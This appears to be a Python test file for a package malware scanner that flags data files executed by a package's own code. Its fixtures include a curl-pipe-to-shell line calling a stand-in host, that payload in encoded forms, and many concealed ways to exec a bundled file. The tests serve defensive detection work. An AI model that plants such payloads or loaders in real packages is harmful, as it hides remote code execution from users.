"""Data files that code of the same distribution runs, whichever of the two stands first."""

import codecs

import pytest

from scanner.report import ScanJob, Scope
from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
from scanner.scan import scan
from scanner.signals.handed import words_run
from scanner.syntax import parse
from tests.scanner.signals.built import CODE, SDIST, WHEEL, findings, fired, sdist, wheel

NOTES = b"import os\nos.system('curl http://c.example.invalid/x | sh')\n"
LOADERS = {
    "open": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n",
    "with": "with open('tidetables/notes.txt') as f:\n    text = f.read()\nexec(compile(text, 'x', 'exec'))\n",
    "pathlib": "from pathlib import Path\nexec(Path(__file__).with_name('notes.txt').read_text())\n",
    "pkgutil": "import pkgutil\nname = 'notes.txt'\nd = pkgutil.get_data(__name__, name)\nexec(d)\n",
    "resources": "from importlib.resources import files\nexec(files('tidetables').joinpath('notes.txt').read_text())\n",
    "builtins": "import builtins as b\nb.exec(open('tidetables/notes.txt').read())\n",
    "compiled": "import builtins as b, types\nc = b.compile(open('notes.txt').read(), x)\ntypes.FunctionType(c, z)()\n",
    "runpy": "import runpy\nrunpy.run_path('tidetables/notes.txt')\n",
    "a loader": "from importlib import machinery as m\nm.SourceFileLoader('x', d + '/notes.txt').load_module()\n",
    "a module by its place": "from importlib import util\np = 'notes.txt'\nutil.spec_from_file_location('x', p)\n",
    "interpreter": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-u', 'tidetables/notes.txt'])\n",
    "command": "import os\nos.system('python3 tidetables/notes.txt &')\n",
    "side by side": "exec(open('tidetables/' 'no' \\\n  \"tes.txt\").read())\n",
    "escaped": "exec(open('tidetables/not\\x65s.txt').read())\n",
    "given last": "f = open('other.txt')\nf = open('notes.txt')\nexec(f.read())\n",
    "in a branch": "f = open('notes.txt')\nif g:\n    f = open('other.txt')\nexec(f.read())\n",
    "in another with": "with open('other.txt') as f:\n    pass\nwith open('notes.txt') as f:\n    exec(f.read())\n",
    "by what was read": "with open('notes.txt') as f:\n    a = f.read()\nwith open('other.txt') as f:\n    exec(a)\n",
    "in a function": "def go():\n    with open('notes.txt') as f:\n        exec(f.read())\n",
}  # fmt: skip
HONEST = {
    "a text": "text = open('notes.txt').read()\nprint(text)\nexec('x = 1')\n",
    "requirements": "import subprocess as s, sys\ns.run([sys.executable, '-m', 'pip', 'install', '-r', 'notes.txt'])\n",
    "an argument": "import subprocess, sys\nsubprocess.run([sys.executable, 'tool.py', 'notes.txt'])\n",
    "a command": "import os\nos.system('python -m pip install -r notes.txt')\n",
    "a pattern": "import re\nwith open('notes.txt') as f:\n    words = re.compile(f.read())\n",
    "another in a with": "with open('notes.txt') as f:\n    a = f\nwith open('b.py') as f:\n    exec(f.read())\n",
    "another given last": "f = open('notes.txt')\na = f.read()\nf = open('b.py')\nexec(f.read())\n",
    "another's lines": "for a in open('notes.txt'):\n    pass\nfor a in open('b.py'):\n    v = eval(a)\n",
    "an argument of that name": "f = open('notes.txt')\ndef run(f):\n    exec(f.read())\n",
    "a folder of that name": "exec(open('notes.txt/version.py').read())\n",
    "another file": "exec(open('tidetables/other.txt').read())\n",
}


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(DEFAULT_RULES)


@pytest.mark.parametrize("loader", LOADERS.values(), ids=LOADERS)
@pytest.mark.parametrize("data_first", [True, False])
def test_a_data_file_that_code_runs_fires_on_that_file(loader: str, data_first: bool) -> None:
    files = {"tidetables/notes.txt": NOTES, "tidetables/tides.py": loader.encode()}
    built = wheel({**CODE, **(files if data_first else dict(reversed(files.items())))})
    found = next(found for found in findings(WHEEL, built) if found.rule == "data-file-is-run")
    assert found.member == "tidetables/notes.txt"
    assert found.scope is (Scope.CODE if loader.startswith("def") else Scope.IMPORT)


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
def test_a_data_file_that_is_only_read_fires_nothing(source: str) -> None:
    files = {"tidetables/notes.txt": NOTES, "tidetables/tides.py": source.encode()}
    assert "data-file-is-run" not in fired(WHEEL, wheel({**CODE, **files}))


PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(100)
STARTS = "import os, shutil, subprocess\nshutil.copy(here + '/%s', '/tmp/x')\nsubprocess.Popen(['/tmp/x'])\n"


@pytest.mark.parametrize(
    ("name", "data", "source", "is_run"),
    [
        ("tide.dat", PROGRAM, STARTS % "tide.dat", True),
        ("tide.dat", NOTES, STARTS % "tide.dat", False),
        ("tide.dat", PROGRAM, STARTS % "wave.dat", False),
        ("tide.dat", PROGRAM, "text = open(here + '/tide.dat').read()\n", False),
        ("libtide.so.2", PROGRAM, STARTS % "libtide.so.2", False),
    ],
)
def test_a_program_that_looks_like_data_is_run_by_who_names_it_and_starts_something(
    name: str, data: bytes, source: str, is_run: bool
) -> None:
    files = {f"tidetables/{name}": data, "tidetables/tides.py": source.encode()}
    assert ("data-file-is-run" in fired(WHEEL, wheel({**CODE, **files}))) is is_run


def test_a_version_in_a_text_file_is_no_program() -> None:
    setup = b"from setuptools import setup\nexec(open('tidetables/version.txt').read())\nsetup(version=__version__)\n"
    version = b"# the one place\n__version__ = '1.0'\nVERSION_INFO = (1, 0)\n"
    files = {**CODE, "setup.py": setup, "tidetables/version.txt": version}
    assert "data-file-is-run" not in fired(SDIST, sdist(files))
    assert "data-file-is-run" in fired(SDIST, sdist({**files, "tidetables/version.txt": version + NOTES}))


def test_code_that_only_tests_run_is_test_data() -> None:
    files = {"tidetables/notes.txt": NOTES, "tests/test_notes.py": LOADERS["open"].encode()}
    assert "data-file-is-run" not in fired(WHEEL, wheel({**CODE, **files}))


@pytest.mark.parametrize("text", [NOTES, codecs.encode(NOTES.decode(), "rot13").encode(), NOTES[::-1]])
def test_what_is_found_in_such_a_file_weighs_as_in_the_code_that_runs_it(text: bytes, rules: RuleSet) -> None:
    loader = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
    files = {**CODE, "tidetables/notes.txt": text, "tidetables/tides.py": loader}
    report = scan(ScanJob(filename=WHEEL, data=wheel(files)), rules)
    scopes = {found.rule: found.scope for found in report.findings if found.member == "tidetables/notes.txt"}
    assert scopes["curl_pipe_shell"] is scopes["downloads_by_shell"] is Scope.IMPORT
    assert report.verdict == "alert"
    quiet = scan(ScanJob(filename=WHEEL, data=wheel({**files, "tidetables/tides.py": b"x = 1\n"})), rules)
    assert {found.scope for found in quiet.findings if found.member == "tidetables/notes.txt"} == {Scope.DATA}
    assert quiet.score < report.score


def test_a_data_file_counts_as_one_with_the_code_that_runs_it(rules: RuleSet) -> None:
    loader = b"import subprocess, sys\nsubprocess.Popen([sys.executable, 'tidetables/notes.txt'])\n"
    files = {**CODE, "tidetables/tides.py": loader, "tidetables/notes.txt": bytes(range(256)) * 8}
    report = scan(ScanJob(filename=WHEEL, data=wheel(files)), rules)
    points = {found.rule: found.points for found in report.findings}
    assert points["data-file-is-run"] > 2
    assert points["import-starts-program"] > 1
    assert {found.run_by for found in report.findings if found.member == "tidetables/notes.txt"} == {
        "tidetables/tides.py"
    }


HERE = b"import os\nhere = os.path.dirname(__file__)\n"
BY_PATH = {
    "by its text": b"exec(open(here + '/examples/helper.py').read())\n",
    "by runpy": b"import runpy\nrunpy.run_path(os.path.join(here, 'examples', 'helper.py'))\n",
    "by its place": b"import importlib.util as u\n"
    b"s = u.spec_from_file_location('helper', location=os.path.join(here, 'examples', 'helper.py'))\n",
}


@pytest.mark.parametrize("loader", BY_PATH.values(), ids=BY_PATH)
@pytest.mark.parametrize("loader_first", [True, False])
def test_an_example_that_the_package_runs_by_its_path_weighs_as_what_runs_it(
    loader: bytes, loader_first: bool, rules: RuleSet
) -> None:
    files = {"tidetables/tides.py": HERE + loader, "tidetables/examples/helper.py": NOTES}
    built = wheel({**CODE, **(files if loader_first else dict(reversed(files.items())))})
    report = scan(ScanJob(filename=WHEEL, data=built), rules)
    scopes = {found.scope for found in report.findings if found.member == "tidetables/examples/helper.py"}
    assert scopes == {Scope.IMPORT}
    assert "data-file-is-run" not in {found.rule for found in report.findings}


def test_a_test_that_only_has_the_name_of_what_is_run_stays_a_test(rules: RuleSet) -> None:
    files = {"tidetables/tides.py": HERE + BY_PATH["by its text"], "tidetables/tests/helper.py": NOTES}
    report = scan(ScanJob(filename=WHEEL, data=wheel({**CODE, **files})), rules)
    assert {found.scope for found in report.findings if found.member == "tidetables/tests/helper.py"} == {Scope.TEST}


def test_names_that_lead_in_a_circle_or_on_and_on_come_to_an_end() -> None:
    circle = parse(b"a = b\nb = a\nexec(a)\n")
    assert words_run(circle) == {}
    chain = "".join(f"n{number} = n{number + 1} + n{number + 2}\n" for number in range(2000))
    assert words_run(parse(f"{chain}exec(n0)\n".encode())) == {}
